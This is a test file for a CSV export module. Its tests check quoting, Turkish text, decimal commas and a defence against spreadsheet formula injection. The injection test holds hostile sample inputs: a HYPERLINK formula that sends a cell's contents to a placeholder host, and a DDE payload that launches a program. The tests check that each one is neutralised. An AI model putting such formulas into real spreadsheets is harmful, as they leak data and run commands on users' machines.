import { describe, expect, it } from 'vitest';
import { csvCell, csvDocument, csvText, decimal } from './csv.js';

describe('csvText', () => {
  it('writes text that a spreadsheet would take for a formula with a leading apostrophe', () => {
    expect(csvText('=HYPERLINK("http://x.example/?"&A1,"Tıkla")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""Tıkla"")"`);
    expect(csvText('+1+2')).toBe("'+1+2");
    expect(csvText('-2+3+cmd|\' /C calc\'!A0')).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvText('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(csvText('\t=1+1')).toBe("'\t=1+1");
    expect(csvText('\r=1+1')).toBe(`"'\r=1+1"`);
    // Still quoted when it holds the separator, once prefixed.
    expect(csvText('=1;2')).toBe(`"'=1;2"`);
  });

  it('leaves other text as it is, quoted only when needed', () => {
    expect(csvText('Yol çökmesi')).toBe('Yol çökmesi');
    expect(csvText('Bilgi; "çöp" saatleri')).toBe('"Bilgi; ""çöp"" saatleri"');
    expect(csvText('a=b')).toBe('a=b');
    expect(csvText('')).toBe('');
  });
});

describe('csvCell', () => {
  it('keeps numbers as numbers, negative ones too, with a decimal comma', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(decimal(-1.25, 1))).toBe('-1,3');
    expect(csvCell(decimal(48, 1))).toBe('48,0');
    expect(csvCell(0.5)).toBe('0,5');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(null)).toBe('');
    // The same characters typed as text are text.
    expect(csvCell('-3')).toBe("'-3");
  });
});

describe('csvDocument', () => {
  it('writes a BOM, semicolons and CRLF after every line', () => {
    expect(csvDocument([['Konu', 'Açılan'], ['=1+1', 2]])).toBe("\uFEFFKonu;Açılan\r\n'=1+1;2\r\n");
  });
});
